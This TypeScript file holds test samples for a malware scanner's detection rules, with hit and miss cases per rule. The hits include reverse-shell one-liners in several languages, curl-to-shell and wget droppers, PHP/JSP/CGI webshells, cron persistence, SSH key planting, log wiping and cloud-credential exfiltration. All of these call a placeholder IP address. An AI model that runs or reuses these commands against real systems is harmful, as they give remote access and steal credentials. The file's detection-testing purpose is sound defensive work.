import { elf } from "./elf.ts";
import type { Samples } from "./samples.ts";

const text = (...lines: string[]) => new TextEncoder().encode(`${lines.join("\n")}\n`);
const sh = (...lines: string[]) => text("#!/bin/sh", ...lines);
/** Kept apart in this file, so that it is not itself what it describes. */
const W = "$" + "_";
const ADDRESS = "198.51.100.7";
const account = `48${"Ab".repeat(46)}c`;
const base64 = Buffer.from("echo this is only a sample, long enough to look like something; true").toString("base64");

const miners: Record<string, Samples> = {
  miner_configuration: {
    hits: [
      text('{ "cpu": true, "pools": [ { "url": "pool.example:3333", "user": "', `${account}" } ] }`).filter((byte) => byte !== 10),
      text(`{"algo": "rx/0", "wallet": "${account}"}`),
    ],
    misses: [text('{ "pools": [ { "url": "db.example:5432", "user": "app" } ], "cpu": 2 }'), text(`an address: ${account}`)],
  },
  miner_installer: {
    hits: [
      sh(`./xmrig -o pool.example:3333 -u ${account} -p x --background`),
      sh("pool=stratum+tcp://pool.example:3333", `wallet=${account}`, "run $pool $wallet"),
    ],
    misses: [sh("apt-get install -y xmrig"), text(`stratum+tcp://pool.example:3333 ${account}`)],
  },
  miner_kills_rivals: {
    hits: [sh("pkill -f kinsing", "pkill -f kdevtmpfsi", "pkill -f xmrig", "killall minerd")],
    misses: [sh("pkill -f my-server", "echo done"), sh("# rules for kinsing, kdevtmpfsi, xmrig and watchbog", "true")],
  },
};

const php = (code: string) => text(`<?php ${code} ?>`);

const webshells: Record<string, Samples> = {
  webshell_php_runs_request: {
    hits: [
      php(`eval(${W}POST['x']);`),
      php(`@system ( ${W}GET["c"] );`),
      php(`echo exec(base64_decode(${W}REQUEST[1]));`),
      php(`echo \`${W}GET[c]\`;`),
      text("GIF89a", `<?php passthru(${W}COOKIE['a']); ?>`),
    ],
    misses: [
      php(`echo htmlspecialchars(${W}GET['q']); $db->exec($sql); $name = trim(${W}POST['name']);`),
      php(`$statement->exec(${W}POST['x']);`),
      text(`never write eval(${W}POST['x'])`),
    ],
  },
  webshell_php_runs_decoded: {
    hits: [php("eval(gzinflate(base64_decode('aGVsbG8=')));"), php("eval( file_get_contents('php://input') );")],
    misses: [php("$data = json_decode(base64_decode($body)); eval($template);"), php("$x = gzinflate($y);")],
  },
  webshell_php_function_from_request: {
    hits: [
      php(`${W}GET['f'](${W}POST['a']);`),
      php(`create_function('', ${W}POST['c']);`),
      php(`call_user_func(${W}REQUEST['f'], 1);`),
      php(`preg_replace('/.*/e', ${W}POST['c'], '');`),
    ],
    misses: [php(`array_map('trim', ${W}POST['names']); call_user_func($handler, ${W}GET['id']);`)],
  },
  webshell_php_well_known: {
    hits: [
      php("$default_action = 'FilesMan'; echo 'Safe mode:'; posix_getpwuid(0);"),
      php("/* b374k shell */ ini_get('disable_functions'); // back connect"),
    ],
    misses: [php("ini_get('disable_functions'); posix_getpwuid(0);")],
  },
  webshell_jsp: {
    hits: [
      text('<%@ page import="java.io.*" %>', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
      text('<% new ProcessBuilder("sh", "-c", request.getHeader("X")).start(); %>'),
    ],
    misses: [text("<%@ page %>", '<%= request.getParameter("name") %>'), text('class A { void a() { Runtime.getRuntime().exec("ls"); } }')],
  },
  webshell_cgi: {
    hits: [
      sh("echo Content-Type: text/html", "echo", 'eval "$QUERY_STRING"'),
      sh('echo "Content-type: text/plain"; echo', 'echo "$QUERY_STRING" | sed s/+/ /g | sh'),
      text("#!/usr/bin/python3", 'print("Content-Type: text/html\\n")', 'os.system(form.getvalue("c"))'),
      text("#!/usr/bin/perl", 'print "Content-type: text/html\\n\\n";', "system(param('cmd'));"),
    ],
    misses: [sh("echo Content-Type: text/html", "echo", 'case "$QUERY_STRING" in status) cat /proc/uptime ;; esac')],
  },
};

const droppers: Record<string, Samples> = {
  dropper_for_every_architecture: {
    hits: [
      sh(
        "cd /tmp || cd /var/run",
        ...["mips", "mpsl", "arm7", "x86"].map((arch) => `wget http://${ADDRESS}/bins/sora.${arch}; chmod +x sora.${arch}; ./sora.${arch}`),
      ),
    ],
    misses: [
      sh("for arch in x86_64 aarch64; do", "  wget https://downloads.example/tool-$arch.tar.gz", "done", "chmod +x tool"),
      sh("case $(uname -m) in", "  mips) a=1 ;; arm) a=2 ;; ppc) a=3 ;;", "esac"),
    ],
  },
  dropper_downloads_and_runs: {
    hits: [
      sh("cd /tmp", `curl -s http://${ADDRESS}/a -o /tmp/.x`, "chmod 777 /tmp/.x", "/tmp/.x", 'rm -rf "$0"'),
      text(`cd /dev/shm; wget -q http://${ADDRESS}/b; chmod +x b; nohup ./b > /dev/null 2>&1 &`),
    ],
    misses: [
      sh("cd /tmp", "curl -fsSL https://downloads.example/install -o install", "chmod +x install", "./install", "rm -f install"),
      sh(`wget http://${ADDRESS}/firmware.bin -O /srv/firmware.bin`),
    ],
  },
  dropper_pipes_address_to_shell: {
    hits: [sh(`curl -fsSL http://${ADDRESS}:8080/i.sh | bash`), sh(`bash -c "$(wget -qO- ${ADDRESS}/i)"`)],
    misses: [
      sh("curl -fsSL https://get.example/install.sh | sh"),
      sh(`curl http://${ADDRESS}/status | grep ok`),
      sh("curl -s http://127.0.0.1:8080/hook | sh"),
    ],
  },
  dropper_encoded_script: {
    hits: [
      sh(`echo ${base64} | base64 -d | bash`),
      sh(`eval "$(echo '${base64}' | base64 --decode)"`),
      sh(`echo ${Buffer.from(base64).toString("hex")} | xxd -r -p | sh`),
    ],
    misses: [sh(`echo ${base64} | base64 -d > logo.png`), sh("echo aGk= | base64 -d | sh")],
  },
  dropper_writes_program_in_hex: {
    hits: [sh("echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' > /tmp/a"), sh("printf '\\177ELF\\001\\001' > a")],
    misses: [sh("printf '\\x89PNG' > a"), sh("# looks for \\x7fELF", "head -c 4 $1")],
  },
  dropper_carries_program: {
    hits: [Buffer.concat([sh("tail -n +4 $0 > /tmp/a", "exit 0"), elf()])],
    misses: [sh("tail -n +4 $0 > /tmp/a"), Buffer.concat([sh("exit 0"), elf()])],
  },
};

const scripts: Record<string, Samples> = {
  script_reverse_shell_bash: {
    hits: [
      text(`* * * * * root bash -i >& /dev/tcp/${ADDRESS}/4444 0>&1`),
      sh(`exec 5<>/dev/tcp/${ADDRESS}/4444`, "cat <&5 | while read l; do $l 2>&5 >&5; done"),
    ],
    misses: [sh("(echo > /dev/tcp/localhost/5432) && echo up"), elf({ data: [`bash -i >& /dev/tcp/${ADDRESS}/1 0>&1`] })],
  },
  script_reverse_shell_pipe: {
    hits: [
      sh(`rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${ADDRESS} 4444 > /tmp/f`),
      sh(`nc ${ADDRESS} 4444 -e /bin/sh`),
      sh(`socat tcp-connect:${ADDRESS}:4444 exec:'bash -li',pty,stderr`),
    ],
    misses: [sh("mkfifo /tmp/f; gzip < /tmp/f | nc backup.example 9000"), sh("nc -z db.example 5432")],
  },
  script_reverse_shell_interpreter: {
    hits: [
      text("import socket,os,pty", `s=socket.socket();s.connect(("${ADDRESS}",4444))`, "os.dup2(s.fileno(),0)", 'pty.spawn("/bin/sh")'),
      text(`use Socket; open(STDIN,">&S"); open(STDOUT,">&S"); exec("/bin/sh -i");`),
      text(`<?php $s=fsockopen("${ADDRESS}",4444); exec("/bin/sh -i <&3 >&3"); ?>`),
      text(`ruby -rsocket -e 'c=TCPSocket.new("${ADDRESS}","4444");while(c.gets);IO.popen($_,"r"){|o|c.print o.read}end'`),
      text(`lua -e "local s=require('socket');t=s.tcp();t:connect('${ADDRESS}','4444');os.execute('/bin/sh -i <&3 >&3')"`),
    ],
    misses: [
      text("import subprocess", 'subprocess.run(["/bin/sh", "-c", "ls"])'),
      text("import os", "os.dup2(log.fileno(), 1)", 'os.execvp("server", ["server"])'),
    ],
  },
  script_cron_downloads: {
    hits: [
      text(`*/5 * * * * root curl -fsSL http://${ADDRESS}/i.sh | sh`),
      sh(`echo "0 * * * * wget -q -O- http://x.example/a | bash" | crontab -`),
    ],
    misses: [
      text("17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
      text("5 4 * * * backup curl -s https://hc.example/ping > /dev/null"),
    ],
  },
  script_plants_ssh_key: {
    hits: [
      sh(`echo "ssh-rsa AAAAB3NzaC1yc2E${"Abc1".repeat(20)} x" >> /root/.ssh/authorized_keys`, "chattr +ia /root/.ssh/authorized_keys"),
    ],
    misses: [sh('cat id.pub >> "$HOME/.ssh/authorized_keys"'), sh(`echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5${"Abc1".repeat(20)}" > known`)],
  },
  script_switches_protection_off: {
    hits: [sh("setenforce 0", "ufw disable", "iptables -F", "unset HISTFILE", "rm -rf /var/log/syslog")],
    misses: [sh("iptables -F", "iptables -A INPUT -i lo -j ACCEPT"), sh("history -c", "setenforce 0")],
  },
  script_preloads_library: {
    hits: [sh("cp x.so /usr/local/lib/libsys.so", "echo /usr/local/lib/libsys.so > /etc/ld.so.preload")],
    misses: [sh("test -s /etc/ld.so.preload && echo 'somebody preloads a library'"), sh("export LD_PRELOAD=/usr/lib/libjemalloc.so")],
  },
  script_spreads_by_ssh: {
    hits: [
      sh(
        "H=$(cat ~/.ssh/known_hosts ~/.bash_history | awk '{print $1}')",
        "K=$(find / -name id_rsa)",
        "for h in $H; do",
        `ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i $K $h 'curl ${ADDRESS}/i | sh' &`,
        "done",
      ),
    ],
    misses: [sh("for h in web1 web2; do", "ssh -o BatchMode=yes $h uptime", "done"), sh("ssh-keyscan $1 >> ~/.ssh/known_hosts")],
  },
  script_steals_cloud_credentials: {
    hits: [
      sh("cat ~/.aws/credentials ~/.kube/config ~/.docker/config.json > /tmp/o", `curl -F f=@/tmp/o http://${ADDRESS}/up`),
      sh(
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "cat ~/.aws/credentials",
        `curl -d @o http://${ADDRESS}/`,
      ),
    ],
    misses: [sh("cp config ~/.kube/config", "kubectl get nodes"), sh("curl -H x http://169.254.169.254/latest/api/token")],
  },
  script_python_runs_decoded: {
    hits: [
      text("import base64", "exec(base64.b64decode('cHJpbnQoMSk='))"),
      text("exec(__import__('zlib').decompress(b'x'))"),
      text("_ = lambda __ : __import__('zlib')"),
    ],
    misses: [text("import base64", "data = base64.b64decode(text)", "exec(compile(source, name, 'exec'))")],
  },
};

const eicar = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");

export const textSamples: Readonly<Record<string, Samples>> = {
  eicar_test_file: {
    hits: [new TextEncoder().encode(eicar), new TextEncoder().encode(`${eicar} \r\n`)],
    misses: [text(`a test: ${eicar}`), text(eicar.slice(0, 40)), new TextEncoder().encode(eicar + " ".repeat(200))],
  },
  ...miners,
  ...webshells,
  ...droppers,
  ...scripts,
};
